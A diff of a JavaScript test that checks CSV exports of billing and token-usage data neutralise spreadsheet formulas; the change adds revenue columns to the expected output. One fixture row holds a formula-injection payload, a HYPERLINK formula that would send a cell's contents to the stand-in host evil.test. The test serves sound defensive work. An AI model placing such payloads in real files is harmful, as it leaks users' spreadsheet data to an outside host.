@@ -62,10 +62,10 @@ describe('CSV exports neutralise formulas', () => {
     expect(`${cliCsv}\r\n`).toBe(consoleCsv);
     const lines = consoleCsv.trimEnd().split('\r\n');
     expect(lines[0]).toBe(
-      'month,level,org,org_slug,agent,agent_handle,agents_billed,revenue_usd,cost_usd,margin,input_tokens,output_tokens,unpriced_tokens,budget_usd,budget_state',
+      'month,level,org,org_slug,agent,agent_handle,agents_billed,revenue_usd,revenue_agents_usd,revenue_usage_usd,minimum_topup_usd,cost_usd,margin,input_tokens,output_tokens,unpriced_tokens,budget_usd,budget_state',
     );
     expect(lines).toContain(
-      `${MONTH},agent,'@Acme,acme,"'-1+1+HYPERLINK(""http://evil.test/?x=""&B2)",evil,,30.00,0.000000,1,0,0,0,,`,
+      `${MONTH},agent,'@Acme,acme,"'-1+1+HYPERLINK(""http://evil.test/?x=""&B2)",evil,,30.00,30.00,0.00,,0.000000,1,0,0,0,,`,
     );
     expectNoFormula(consoleCsv);
   });
